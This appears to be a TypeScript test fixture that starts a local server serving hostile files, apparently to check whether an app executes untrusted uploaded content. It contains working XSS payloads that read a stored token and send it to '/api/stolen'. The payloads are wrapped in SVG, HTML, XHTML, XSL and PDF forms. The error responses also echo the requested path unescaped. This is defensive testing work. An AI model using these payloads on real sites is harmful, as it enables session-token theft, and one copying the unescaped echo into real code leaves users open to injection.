import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Reads the token and sends it away, if it runs. */
export const steal = "fetch('/api/stolen?'+localStorage.getItem('token'));document.title='it ran'"

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="${steal}"><rect width="40" height="20" style="fill:red"/><script>${steal}</script></svg>`
const html = `<!doctype html><title>Not found</title><script>${steal}</script><img src="x" onerror="${steal}">`
const xhtml = `<?xml version="1.0"?><a><x:script xmlns:x="http://www.w3.org/1999/xhtml">${steal}</x:script></a>`
const styled = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/api/style.xsl"?><a/>'
const xsl = `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${steal}</script></html></xsl:template></xsl:stylesheet>`
const pdf = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("/api/stolen"))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
trailer<</Root 1 0 R>>`

/** What a build's file is replaced with, by how its name ends: text that a browser might take for a page. */
export const hostileFile = (name: string): string => (name.endsWith('.svg') ? svg : html)

/** Pages of a host that reads tokens, by their address; an error repeats the address it's asked for. */
export const hostilePages: Readonly<Record<string, [type: string, body: string]>> = {
  '/api/banner-settings/x.svg': ['image/svg+xml', svg],
  '/api/banner-settings/x.html': ['text/html', html],
  '/api/banner-settings/x.xhtml': ['application/xhtml+xml', xhtml],
  '/api/banner-settings/x.xml': ['text/xml', xhtml],
  '/api/banner-settings/styled.xml': ['text/xml', styled],
  '/api/banner-settings/x.pdf': ['application/pdf', pdf],
  '/api/banner-settings/x.png': ['image/png', html],
  '/api/banner-settings/untyped': ['', html],
  '/api/style.xsl': ['text/xsl', xsl],
}

interface Stranger {
  port: number
  /** The addresses at which a script has reported; empty if none ran. */
  stolen: string[]
  close(): void
}

/** A host that answers with pages whose scripts read the token. Its answers have weaker headers too. */
export async function startStranger(): Promise<Stranger> {
  const stolen: string[] = []
  const answer = (path: string, outgoing: ServerResponse) => {
    const [type, body] = hostilePages[path] ?? ['text/html', html]
    outgoing.writeHead(path.includes('gone') ? 404 : 200, {
      ...(type && { 'content-type': type }),
      'x-frame-options': 'SAMEORIGIN',
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'cross-origin',
    })
    outgoing.end(path in hostilePages ? body : `${body}${decodeURIComponent(path)}`)
  }
  const server = createServer(({ url = '' }, outgoing) => {
    if (url.startsWith('/api/stolen')) stolen.push(url)
    answer(url.split('?')[0] ?? '', outgoing)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    port: (server.address() as AddressInfo).port,
    stolen,
    close: () => void server.close(),
  }
}
